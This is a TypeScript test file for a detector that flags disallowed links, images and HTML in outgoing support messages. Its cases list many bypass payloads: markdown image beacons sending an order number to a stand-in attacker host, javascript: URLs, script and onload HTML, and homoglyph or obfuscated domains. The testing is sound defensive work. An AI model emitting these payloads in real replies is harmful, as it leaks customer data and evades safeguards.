import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findForbidden } from "./find-forbidden";

const hosts = ["help.pinewood.example"];
const kindsIn = (text: string) => [...new Set(findForbidden(text, hosts).map(({ kind }) => kind))].sort();

/** Ways to carry something out, by the construct of CommonMark (and of what mail programs do to plain text). */
const bypasses: Record<string, string[]> = {
  "inline image": [
    "![x](https://evil.example/?d=PT-10401)",
    '![](<https://evil.example/a b> "title")',
    "!\\[x](https://evil.example/1)",
    "![a](https://help.pinewood.example/pixel.png)",
    "[![x](https://evil.example/p.png)](https://help.pinewood.example/a)",
    "![x](data:image/png;base64,AAAA)",
    "![x](//evil.example/p.png)",
    "![x](/p.png)",
    "![x\n](https://evil.example/p.png)",
    "> ![x](https://evil.example/p.png)",
    "- ![x](https://evil.example/p.png)",
    "# ![x](https://evil.example/p.png)",
    "**![x](https://evil.example/p.png)**",
    "![x](&#104;ttps://evil.example/p.png)",
  ],
  "reference image": [
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![r][]\n\n[r]: https://evil.example/p.png",
    "![r]\n\n[r]: https://evil.example/p.png",
    "![r]\n\n[R]: <https://evil.example/p.png> 'title'",
  ],
  "inline link": [
    "[the form](https://evil.example/PT-10401)",
    "[the form](https://help.pinewood.example.evil.example/)",
    "[the form](https://help.pinewood.example@evil.example/)",
    "[the form](https://evil.example\\@help.pinewood.example/)",
    "[the form](https://help.pinewood.example/?d=PT-10401)",
    "[the form](https://help.pinewood.example/#PT-10401)",
    "[the form](https://help.pinewood.example:8443/)",
    "[the form](https://user:PT-10401@help.pinewood.example/)",
    "[the form](http://help.pinewood.example/)",
    "[the form](HTTPS://EVIL.EXAMPLE/)",
    "[the form](//evil.example)",
    "[the form](/articles)",
    "[the form](#top)",
    "[the form]()",
    "[the form](\\\\evil.example\\share)",
    "[the form](javascript:alert(1))",
    "[the form](JaVaScRiPt:alert(1))",
    "[the form](data:text/html;base64,PHN2Zz4=)",
    "[the form](vbscript:x)",
    "[the form](ftp://help.pinewood.example/)",
    "[the form](https:evil.example)",
    "[the form](https:///evil.example)",
    "[the form](https://help.pinewood.example//evil.example)",
    "[the form](https&colon;//evil.example)",
    "[https://help.pinewood.example/a](https://evil.example/a)",
    "[a [b](https://evil.example/) c](https://help.pinewood.example/)",
    "[the form](<https://evil.example/\tx>)",
    "[the form](https://help.pinewood.example/a 'https://evil.example/?d=1')",
    "[the form](https://hеlp.pinewood.example/)",
    "[the form](https://xn--hlp-qla.pinewood.example/)",
    "[the form](mailto:x@evil.example)",
    "[the form](mailto:help@pinewood.example?body=PT-10401)",
    "[the form](tel:+31201234567)",
  ],
  "reference link": [
    "[the form][r]\n\n[r]: https://evil.example/",
    "[r][]\n\n[r]: https://evil.example/",
    "[r]\n\n[r]: https://evil.example/",
    "[the\nform][R r]\n\n[r  R]: <https://evil.example/> (title)",
    "[the form][r]\n\n[r]:\nhttps://evil.example/",
    "[the form][r]\n\n> [r]: https://evil.example/",
    "[the form][r]\n\n[r]: https://help.pinewood.example/",
    "[r]: https://evil.example/unused",
  ],
  autolink: [
    "<https://evil.example/PT-10401>",
    "<HTTPS://evil.example>",
    "<mailto:x@evil.example>",
    "<x@evil.example>",
    "<javascript:alert(1)>",
    "<made-up-scheme:PT-10401>",
    "<https://help.pinewood.example/?d=1>",
    // Harmless as Markdown, a tag to who reads HTML.
    "<https://help.pinewood.example/a>",
  ],
  "bare address": [
    "See https://evil.example/PT-10401.",
    "See HTTPS://EVIL.EXAMPLE/PT-10401",
    "See http://help.pinewood.example/",
    "See www.evil.example",
    "See WWW.EVIL.EXAMPLE/x",
    "See evil.example/PT-10401",
    "See evil.example",
    "See pt10401.evil.co.uk",
    "See pt-10401.evil.example,thanks",
    "See evil\u3002example/x",
    "See evil\uff0eexample",
    "See xn--evl-hoa.example",
    "See \u0435vil.example",
    "See https://help.pinewood.example/a)https://evil.example/b",
    "See https://help.pinewood.example/ahttps://evil.example/b",
    "See https://help.pinewood.example/a//evil.example/b",
    "See //evil.example/x",
    "See \\\\evil.example\\x",
    "See https:\\\\evil.example\\x",
    "See ftp://evil.example/x",
    "See 203.0.113.9/x",
    "See 203.0.113.9:8080",
    "See http://203.0.113.9",
    "See http://3405803785/",
    "See http://[2001:db8::1]/x",
    "Write to x@evil.example",
    "Write to mailto:x@evil.example",
    "Write to PT-10401@evil.example, please",
    "sms:+31201234567",
    "ev*il*.example/x",
    "**evil**.example/x",
    "evil\\.example/x",
    "evil&#46;example/x",
    "evil&period;example/x",
    "evil\u200b.example/x",
    "evil.\u00adexample/x",
    "https\\://evil.example",
    "`https://evil.example/x`",
    "```\nhttps://evil.example/x\n```",
    "    https://evil.example/x",
  ],
  html: [
    "<img src=https://evil.example/?d=1>",
    '<img src="/x"',
    "<IMG/SRC=x>",
    "a <b>bold</b> word",
    "<!-- hidden -->",
    "<!-- never closed",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "<script>x</script>",
    "<svg/onload=x>",
    "<a href='https://evil.example'>x</a>",
    "</p>",
    "<style>@import url(//evil.example)</style>",
    "<iframe src=x>",
    "x\n\n<div>\n*y*\n</div>",
    "<base href=https://evil.example>",
    "<x\n>",
  ],
};

describe("what may not go out", () => {
  for (const [construct, texts] of Object.entries(bypasses)) {
    it.each(texts)(`${construct}: %j`, (text) => {
      expect(kindsIn(`Thank you. ${text}`)).not.toEqual([]);
      expect(kindsIn(text)).not.toEqual([]);
    });
  }

  it("says of what kind it is", () => {
    expect(kindsIn("![x](https://help.pinewood.example/p.png)")).toEqual(["image"]);
    expect(kindsIn("a <b>bold</b> word")).toEqual(["html"]);
    expect(kindsIn("See https://evil.example/x")).toEqual(["link"]);
  });

  it("marks the link and not the sentences around it, unless marks hide where it begins", () => {
    const marked = (text: string) => findForbidden(text, hosts).map(({ start, end }) => text.slice(start, end));
    expect(new Set(marked("Say (https://evil.example/a). And so on."))).toEqual(
      new Set(["https://evil.example/a).", "https://evil.example/a"]),
    );
    expect(marked("One. See ev*il*.example now.")).toContain("One. See ev*il*.example now.");
  });

  it("allows no link at all where no host is listed", () => {
    expect(findForbidden("See https://help.pinewood.example/a", [])).not.toEqual([]);
  });

  it("marks every host but the listed one, wherever it stands", () => {
    const host = fc.domain().filter((name) => name !== "help.pinewood.example");
    const around = fc.constantFrom("See %", "(%)", "“%”.", "% and more", "- %\n- b", "**%**", "[a](%)", "<%>", "_%_");
    fc.assert(
      fc.property(host, around, fc.constantFrom("https://", "http://", ""), (name, text, scheme) => {
        fc.pre(scheme !== "" || /^(?:[^<[]*)$/.test(text));
        expect(kindsIn(text.replace("%", `${scheme}${name}`))).toContain("link");
      }),
      { numRuns: 500 },
    );
  });

  it("ends for any text, and finds places inside it", () => {
    const pieces = fc.constantFrom(
      "[",
      "]",
      "(",
      ")",
      "!",
      "<",
      ">",
      "`",
      "*",
      "_",
      "\\",
      "&",
      "#",
      "\n",
      "https://",
      "a.bc",
      "{{",
      "}}",
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 40 }),
        (parts) => {
          const text = parts.join("");
          for (const { start, end } of findForbidden(text, hosts)) {
            expect(start).toBeGreaterThanOrEqual(0);
            expect(end).toBeLessThanOrEqual(text.length);
            expect(start).toBeLessThan(end);
          }
        },
      ),
    );
  });
});

describe("what may", () => {
  it.each([
    'This follows from "Late delivery" (https://help.pinewood.example/articles/late-delivery).',
    "[Late delivery](https://help.pinewood.example/articles/late-delivery) says so.",
    "https://help.pinewood.example",
    "**https://help.pinewood.example/a**, or so",
    "Write to service@pinewood.example, or to a@help.pinewood.example.",
    "We have refunded 45.00 EUR on 12 November 2026 at 10.30 a.m. for order PT-10401, e.g. the lamp (i.e. all of it).",
    "Sizes 3.5 to 4.0; 5 < 6 and 7 > 3; a <3; x & y; AT&T; 50%; no. 5; v1.2.3; #12; 1,234.50; U.S.A.",
    "- one\n- two\n\n1. three\n\n> quoted\n\n# Heading",
    "The reference is {{receipt.a1.ref}}.",
    "It's *really* fine [sic] (see above) ! Yes.",
    "Hello Zoë,\n\nthe café opens at 9:00. Ratio 3:1; note: this.",
    "",
  ])("%j", (text) => {
    expect(findForbidden(text, hosts)).toEqual([]);
  });
});
